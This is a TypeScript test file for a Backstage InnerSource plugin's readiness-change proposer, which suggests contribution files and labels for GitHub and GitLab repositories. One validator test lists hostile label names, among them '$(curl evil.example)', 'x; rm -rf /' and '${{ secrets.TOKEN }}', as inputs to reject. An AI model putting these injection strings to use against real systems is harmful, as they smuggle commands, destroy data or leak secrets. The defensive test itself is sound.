import type {
  ReadinessCheckId,
  ReadinessCheckResult,
} from '@innersource-for-backstage/plugin-innersource-common';
import { READINESS_CHECK_IDS } from '@innersource-for-backstage/plugin-innersource-common';
import { detectRepositoryFiles } from '@innersource-for-backstage/plugin-innersource-node';
import type { ProjectDetails } from './contents';
import type { ReadinessForge } from './forge';
import {
  capLabels,
  MAX_LABELS,
  pathsToLookUp,
  proposeReadinessChanges,
  RepositoryState,
  withoutLabelsAlone,
} from './proposeReadinessChanges';
import { isPlainLabelName } from './text';

const project: ProjectDetails = {
  entityRef: 'component:default/payment-gateway',
  title: 'Payment gateway',
  description: 'Card and wallet payments for every checkout in the company',
  ownerTitle: 'Payments team',
  skills: ['java', 'kotlin'],
  repositoryUrl: 'https://github.com/acme/payment-gateway',
  labels: {
    helpWanted: ['help wanted', 'contributions welcome'],
    goodFirstIssue: ['good first issue'],
  },
};

function checks(failing: ReadinessCheckId[]): ReadinessCheckResult[] {
  return READINESS_CHECK_IDS.map(id => ({
    id,
    title: `${id} title`,
    passed: !failing.includes(id),
    weight: 1,
    advice: `fix ${id}`,
  }));
}

const emptyRepository: RepositoryState = {
  presentPaths: [],
  presentLabels: [],
};

function propose(
  failing: ReadinessCheckId[],
  repository: RepositoryState = emptyRepository,
  codeOwner: { handle: string } | { error: string } = {
    handle: '@acme/payments',
  },
  forge?: ReadinessForge,
) {
  return proposeReadinessChanges({
    project,
    readiness: checks(failing),
    codeOwner,
    repository,
    forge,
  });
}

describe('proposeReadinessChanges', () => {
  it.each<[string, ReadinessCheckId[], RepositoryState, string[]]>([
    [
      'every file check failing, nothing in the repository',
      ['contributing', 'codeowners', 'issueTemplates'],
      emptyRepository,
      [
        'CONTRIBUTING.md',
        '.github/CODEOWNERS',
        '.github/ISSUE_TEMPLATE/bug_report.md',
        '.github/ISSUE_TEMPLATE/feature_request.md',
        'innersource.json',
      ],
    ],
    [
      'only CODEOWNERS failing',
      ['codeowners'],
      emptyRepository,
      ['.github/CODEOWNERS', 'innersource.json'],
    ],
    [
      'every check passing and innersource.json present: nothing',
      [],
      { presentPaths: ['innersource.json'], presentLabels: [] },
      [],
    ],
    [
      'a failing check whose file arrived since the last refresh',
      ['contributing', 'codeowners'],
      {
        presentPaths: ['.github/CONTRIBUTING.md', 'innersource.json'],
        presentLabels: [],
      },
      ['.github/CODEOWNERS'],
    ],
    [
      'a CODEOWNERS in docs/ counts',
      ['codeowners'],
      {
        presentPaths: ['docs/CODEOWNERS', 'innersource.json'],
        presentLabels: [],
      },
      [],
    ],
    [
      'an existing issue template folder counts',
      ['issueTemplates'],
      {
        presentPaths: ['.github/ISSUE_TEMPLATE', 'innersource.json'],
        presentLabels: [],
      },
      [],
    ],
  ])('%s', (_case, failing, repository, paths) => {
    expect(propose(failing, repository).files.map(f => f.path)).toEqual(paths);
  });

  it('says which present file made it skip a failing check', () => {
    expect(
      propose(['contributing'], {
        presentPaths: ['docs/CONTRIBUTING.md'],
        presentLabels: [],
      }).skipped,
    ).toEqual([
      {
        reason: 'contributing',
        message: 'docs/CONTRIBUTING.md is already in the repository',
      },
    ]);
  });

  it('skips CODEOWNERS with the reason when the owner has no GitHub handle', () => {
    const proposal = propose(['codeowners'], emptyRepository, {
      error: 'user:default/jane has no valid github.com/user-login annotation',
    });
    expect(proposal.files.map(f => f.path)).toEqual(['innersource.json']);
    expect(proposal.skipped).toEqual([
      {
        reason: 'codeowners',
        message:
          'user:default/jane has no valid github.com/user-login annotation',
      },
    ]);
  });

  it('lists failing checks no file fixes, with their advice', () => {
    expect(
      propose(['readme', 'license', 'description', 'goodFirstIssues']).manual,
    ).toEqual([
      { id: 'readme', title: 'readme title', advice: 'fix readme' },
      { id: 'license', title: 'license title', advice: 'fix license' },
      {
        id: 'description',
        title: 'description title',
        advice: 'fix description',
      },
    ]);
  });

  it.each<[string, string[], string[]]>([
    [
      'none exists',
      [],
      ['good first issue', 'help wanted', 'contributions welcome'],
    ],
    [
      'one exists in another case',
      ['Help Wanted'],
      ['good first issue', 'contributions welcome'],
    ],
    [
      'all exist',
      ['good first issue', 'help wanted', 'contributions welcome'],
      [],
    ],
  ])('labels: %s', (_case, presentLabels, created) => {
    expect(
      propose([], {
        presentPaths: ['innersource.json'],
        presentLabels,
      }).labels.map(l => l.name),
    ).toEqual(created);
  });

  it('gives labels GitHub colours and descriptions', () => {
    expect(
      propose([], {
        presentPaths: [],
        presentLabels: ['help wanted', 'contributions welcome'],
      }).labels,
    ).toEqual([
      {
        name: 'good first issue',
        color: '7057ff',
        description: 'Small enough for a first contribution',
      },
    ]);
  });

  it('never proposes a label GitHub would refuse, and says so', () => {
    const proposal = proposeReadinessChanges({
      project: {
        ...project,
        labels: { helpWanted: ['two\nlines'], goodFirstIssue: [] },
      },
      readiness: [],
      codeOwner: { handle: '@acme/payments' },
      repository: emptyRepository,
    });
    expect(proposal.labels).toEqual([]);
    expect(proposal.skipped).toEqual([
      {
        reason: 'label',
        message:
          'the label "two\\nlines" is not a GitHub label name (one line, at most 50 characters)',
      },
    ]);
  });

  it('looks up every place GitHub reads these files from', () => {
    expect(pathsToLookUp()).toEqual([
      'CONTRIBUTING.md',
      '.github/CONTRIBUTING.md',
      'docs/CONTRIBUTING.md',
      'CONTRIBUTING',
      'CODEOWNERS',
      '.github/CODEOWNERS',
      'docs/CODEOWNERS',
      '.github/ISSUE_TEMPLATE',
      'innersource.json',
    ]);
  });

  it.each<[string, ReadinessCheckId[], RepositoryState, string[]]>([
    [
      'every file check failing, nothing in the project',
      ['contributing', 'codeowners', 'issueTemplates'],
      emptyRepository,
      [
        'CONTRIBUTING.md',
        '.gitlab/CODEOWNERS',
        '.gitlab/issue_templates/Bug.md',
        '.gitlab/issue_templates/Feature request.md',
        'innersource.json',
      ],
    ],
    [
      'a CODEOWNERS in .gitlab/ counts',
      ['codeowners'],
      {
        presentPaths: ['.gitlab/CODEOWNERS', 'innersource.json'],
        presentLabels: [],
      },
      [],
    ],
    [
      'an existing .gitlab/issue_templates folder counts',
      ['issueTemplates'],
      {
        presentPaths: ['.gitlab/issue_templates', 'innersource.json'],
        presentLabels: [],
      },
      [],
    ],
  ])('on GitLab: %s', (_case, failing, repository, paths) => {
    expect(
      propose(failing, repository, undefined, 'gitlab').files.map(f => f.path),
    ).toEqual(paths);
  });

  it.each<ReadinessForge>(['github', 'gitlab'])(
    'on %s, looks up where it puts every file, so a second run adds nothing',
    forge => {
      const first = propose(
        ['contributing', 'codeowners', 'issueTemplates'],
        emptyRepository,
        undefined,
        forge,
      );
      const looked = pathsToLookUp(forge);
      const present = looked.filter(path =>
        first.files.some(f => f.path === path || f.path.startsWith(`${path}/`)),
      );
      const second = propose(
        ['contributing', 'codeowners', 'issueTemplates'],
        { presentPaths: present, presentLabels: [] },
        undefined,
        forge,
      );
      expect(second.files).toEqual([]);
    },
  );

  it('on GitLab, proposes files where the readiness checks find them', () => {
    const paths = propose(
      ['contributing', 'issueTemplates'],
      emptyRepository,
      undefined,
      'gitlab',
    ).files.map(f => f.path);
    // Listed as the GitLab provider lists them: the root and .gitlab/'s entries.
    const entries = new Set(
      paths.map(path => {
        const [first, second] = path.split('/');
        return first === '.gitlab' ? `.gitlab/${second}` : first;
      }),
    );
    expect(detectRepositoryFiles(entries)).toMatchObject({
      contributing: true,
      issueTemplate: true,
      innersourceJson: true,
    });
  });

  it('lets GitLab labels be up to 255 characters long', () => {
    const long = 'x'.repeat(200);
    const tooLong = 'y'.repeat(256);
    const input = {
      project: {
        ...project,
        labels: { helpWanted: [long, tooLong], goodFirstIssue: [] },
      },
      readiness: [],
      codeOwner: { handle: '@acme/payments' },
      repository: emptyRepository,
    };
    const onGitlab = proposeReadinessChanges({ ...input, forge: 'gitlab' });
    expect(onGitlab.labels.map(l => l.name)).toEqual([long]);
    expect(onGitlab.skipped).toEqual([
      {
        reason: 'label',
        message: `the label "${tooLong}" is not a GitLab label name (one line, at most 255 characters)`,
      },
    ]);
    expect(proposeReadinessChanges(input).labels.map(l => l.name)).toEqual([]);
  });

  it('looks up every place GitLab reads these files from', () => {
    expect(pathsToLookUp('gitlab')).toEqual([
      'CONTRIBUTING.md',
      'docs/CONTRIBUTING.md',
      'CONTRIBUTING',
      'CODEOWNERS',
      'docs/CODEOWNERS',
      '.gitlab/CODEOWNERS',
      '.gitlab/issue_templates',
      'innersource.json',
    ]);
  });
});

describe('capLabels', () => {
  it.each<[string, { goodFirstIssue: string[]; helpWanted: string[] }, object]>(
    [
      [
        'five or fewer: all kept',
        { goodFirstIssue: ['good first issue'], helpWanted: ['a', 'b'] },
        {
          labels: {
            goodFirstIssue: ['good first issue'],
            helpWanted: ['a', 'b'],
          },
          leftOut: [],
        },
      ],
      [
        'good-first-issue labels first, then help-wanted, in order',
        {
          goodFirstIssue: ['g1', 'g2'],
          helpWanted: ['h1', 'h2', 'h3', 'h4', 'h5'],
        },
        {
          labels: {
            goodFirstIssue: ['g1', 'g2'],
            helpWanted: ['h1', 'h2', 'h3'],
          },
          leftOut: ['h4', 'h5'],
        },
      ],
      [
        'a name in another case counts once',
        {
          goodFirstIssue: ['Help'],
          helpWanted: ['help', 'HELP', 'a', 'b', 'c', 'd', 'e'],
        },
        {
          labels: {
            goodFirstIssue: ['Help'],
            helpWanted: ['a', 'b', 'c', 'd'],
          },
          leftOut: ['e'],
        },
      ],
    ],
  )('%s', (_case, labels, expected) => {
    expect(capLabels(labels)).toEqual(expected);
  });

  it('proposes at most MAX_LABELS labels and says which are left out', () => {
    const proposal = proposeReadinessChanges({
      project: {
        ...project,
        labels: {
          goodFirstIssue: ['good first issue'],
          helpWanted: ['l1', 'l2', 'l3', 'l4', 'l5', 'l6'],
        },
      },
      readiness: checks([]),
      codeOwner: { handle: '@acme/payments' },
      repository: emptyRepository,
    });
    expect(MAX_LABELS).toBe(5);
    expect(proposal.labels.map(l => l.name)).toEqual([
      'good first issue',
      'l1',
      'l2',
      'l3',
      'l4',
    ]);
    expect(proposal.skipped.map(s => s.message)).toEqual([
      'the label "l5" is left out: one pull request creates at most 5 labels',
      'the label "l6" is left out: one pull request creates at most 5 labels',
    ]);
    // the contribution guide names only the labels it can create
    const contributing = proposeReadinessChanges({
      project: {
        ...project,
        labels: {
          goodFirstIssue: ['good first issue'],
          helpWanted: ['l1', 'l2', 'l3', 'l4', 'l5', 'l6'],
        },
      },
      readiness: checks(['contributing']),
      codeOwner: { handle: '@acme/payments' },
      repository: emptyRepository,
    }).files.find(f => f.path === 'CONTRIBUTING.md')!.content;
    expect(contributing).toContain('l4');
    expect(contributing).not.toContain('l5');
  });

  it.each<[string, boolean]>([
    ['help wanted', true],
    ['status: help-wanted', true],
    ['good first issue', true],
    ['Hilfe willkommen', true],
    ['area/ui', true],
    ['c++', true],
    ['$(curl evil.example)', false],
    ['`whoami`', false],
    ['a"b', false],
    ["it's", false],
    ['x; rm -rf /', false],
    ['${{ secrets.TOKEN }}', false],
    [' leading space', false],
    ['-dash first', false],
  ])('a label named %j is plain: %s', (name, plain) => {
    expect(isPlainLabelName(name)).toBe(plain);
  });
});

describe('withoutLabelsAlone', () => {
  const label = {
    name: 'good first issue',
    color: '7057ff',
    description: 'Small enough for a first contribution',
  };

  it('keeps the labels of a proposal with files', () => {
    const proposal = {
      files: [
        {
          path: 'innersource.json',
          content: '{}',
          reason: 'innersourceJson' as const,
        },
      ],
      labels: [label],
      skipped: [],
      manual: [],
    };
    expect(withoutLabelsAlone(proposal)).toBe(proposal);
  });

  it.each<[ReadinessForge, string]>([
    ['github', 'pull request'],
    ['gitlab', 'merge request'],
  ])('drops the labels of a proposal with no file, on %s', (forge, name) => {
    expect(
      withoutLabelsAlone(
        { files: [], labels: [label], skipped: [], manual: [] },
        forge,
      ),
    ).toEqual({
      files: [],
      labels: [],
      skipped: [
        {
          reason: 'label',
          message: `the label "good first issue" is missing, and labels are created only with a ${name}, which has no file to add here: create it in the repository`,
        },
      ],
      manual: [],
    });
  });
});
